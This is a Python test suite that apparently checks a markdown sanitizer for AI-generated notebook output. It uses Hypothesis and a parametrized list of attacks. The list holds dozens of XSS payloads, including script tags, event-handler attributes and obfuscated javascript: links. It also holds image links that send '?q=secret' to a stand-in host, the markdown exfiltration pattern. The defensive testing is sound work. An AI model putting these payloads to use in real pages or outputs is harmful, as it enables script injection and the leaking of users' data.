"""What a model writes cannot run, load or lead anywhere dangerous, whatever renders it."""

from __future__ import annotations

from html.parser import HTMLParser

import mistune
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from lumina_jupyter.magics.safe_markdown import harmless

ALLOWED_TAGS = {
    "p",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "ul",
    "ol",
    "li",
    "blockquote",
    "pre",
    "code",
    "em",
    "strong",
    "a",
    "img",
    "hr",
    "br",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "del",
    "b",
    "i",
    "sub",
    "sup",
    "kbd",
    "mark",
    "u",
    "s",
    "ins",
    "small",
    "details",
    "summary",
}
ALLOWED_ATTRIBUTES = {"href", "src", "alt", "title", "class", "start", "align", "open", "style"}


class Dangers(HTMLParser):
    """Lists what in an HTML text could run, load or lead somewhere."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ALLOWED_TAGS:
            self.found.append(f"<{tag}>")
        for name, raw in attrs:
            value = (raw or "").strip().lower()
            if name not in ALLOWED_ATTRIBUTES or (name == "style" and not value.startswith("text-align:")):
                self.found.append(f"{tag} {name}={value}")
            scheme = value.partition(":")[0] if ":" in value.partition("/")[0] else ""
            if name == "href" and scheme not in {"", "http", "https", "mailto", "attachment", "data"}:
                self.found.append(f"link to {value}")
            if name == "src" and not value.startswith(("data:image/", "attachment:")) and "://" in value:
                self.found.append(f"loads {value}")


# Looser than the libraries' defaults: as trusting as JupyterLab is with the output of a cell just run.
COMMONMARK = MarkdownIt("commonmark", {"html": True}).enable("table")
COMMONMARK.validateLink = lambda url: True  # type: ignore[method-assign]  # what JupyterLab does
MISTUNE = mistune.create_markdown(
    renderer=mistune.HTMLRenderer(escape=False, allow_harmful_protocols=True), plugins=["table"]
)


def dangers(markdown: str) -> list[str]:
    found: list[str] = []
    for rendered in (COMMONMARK.render(markdown), str(MISTUNE(markdown))):
        parser = Dangers()
        parser.feed(rendered)
        parser.close()
        found += parser.found
    return found


ATTACKS = [
    "<script>alert(1)</script>",
    "text <img src=x onerror=alert(1)> text",
    "<iframe src='http://x.example'></iframe>",
    "<b onclick=alert(1)>x</b>",
    "<details ontoggle=alert(1) open>x</details>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x]( <javascript:alert(1)>)",
    "[x](java&#115;cript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "> [x][y]\n>\n> [y]:\n> javascript:alert(1)",
    "<javascript:alert(1)>",
    "| a | b |\n|---|---|\n| `a | <script>alert(1)</script>` |",
    "</details>`<script>alert(1)</script>`",
    "- <details>\n  ```\n  <script>alert(1)</script>\n  ```",
    "\n```\n    ```\nx\n```\n<script>alert(1)</script>",
    "> [x](\n> javascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](javascript\\:alert(1))",
    "[x](\\javascript:alert(1))",
    "[x][y\n z]\n\n[y\n z]: javascript:alert(1)",
    "![x](http://x.example/?q=secret)",
    "![x][y]\n\n[y]: http://x.example/?q=secret",
    "!![x](http://x.example/?q=secret)",
    "\\\\![x](http://x.example/?q=secret)",
    "\\\\[x](javascript:alert(1))",
    "[x\\\\](javascript:alert(1))",
    "`a\n<script>alert(1)</script>`",
    "`` `<script>alert(1)</script>",
    "\\`<script>alert(1)</script>`",
    "\\\\`a` <script>alert(1)</script> `b`",
    "- ```\n<script>alert(1)</script>",
    "- ```\n  x\n<script>alert(1)</script>\n```",
    "    ```\n<script>alert(1)</script>",
    "para\n    ```\n    <script>alert(1)</script>",
    "<details>\n```\n<script>alert(1)</script>\n```",
    "<b>\n```\n<script>alert(1)</script>\n```",
    "> ```\n<script>alert(1)</script>\n> ```",
    "```\nx\n```\n<script>alert(1)</script>",
    "``` a`b\n<script>alert(1)</script>\n```",
    "text\u2028```\n<script>alert(1)</script>",
    "<!-- x --><script>alert(1)</script>",
    "<!--\n```\n-->\n<script>alert(1)</script>",
    "<?php ?><svg/onload=alert(1)>",
    "<ScRiPt\n>alert(1)</sCrIpT\n>",
    "</details><math><a xlink:href=javascript:alert(1)>",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks_are_only_text(attack: str) -> None:
    assert dangers(harmless(attack)) == []


def test_the_attacks_would_work_without_it() -> None:
    assert sum(bool(dangers(attack)) for attack in ATTACKS) >= len(ATTACKS) * 0.7


@settings(max_examples=600)
@given(
    st.lists(
        st.sampled_from(
            [
                *ATTACKS,
                "\n",
                "\n\n",
                "    ",
                "- ",
                "1. ",
                "> ",
                "`",
                "``",
                "```",
                "~~~\n",
                "$",
                "\\",
                "x ",
                "]",
                "[",
                "!",
                "(",
                ")",
                "<",
                ">",
                "&lt;",
                "| a |\n|---|\n|",
            ]
        ),
        max_size=8,
    ).map("".join)
)
@example("1. a\n    ```\n   <script>alert(1)</script>")
def test_attacks_in_any_surroundings_are_only_text(text: str) -> None:
    assert dangers(harmless(text)) == []


@pytest.mark.parametrize(
    "text",
    [
        "a < b and c > d, x<3, <3",
        "`<div>` and ``a ` <b>``",
        "```html\n<script src='x'></script>\n![x](http://y)\n```",
        "1. Do this:\n   ```html\n   <div class='x'>\n   ```\n2. Then that.",
        "- item\n\n  ```jsx\n  <App onClick={f} />\n  ```\n",
        "H<sub>2</sub>O<br>and x<sup>2</sup>",
        "<details>\n<summary>More</summary>\n\ntext\n\n</details>",
        "[docs](https://a.example/b?c=d#e) [here](#x) [file](data/a.csv) <https://a.example> <mailto:a@b.example>",
        "![plot](data:image/png;base64,AAAA)",
        "| a | b |\n|---|---|\n| 1<br>2 | `x` |",
        "$x < y$ and $$\\frac{a}{b}$$",
        "[1]: https://a.example",
        "~~~\n<b x>\n~~~",
    ],
)
def test_ordinary_markdown_is_left_alone(text: str) -> None:
    assert harmless(text) == text
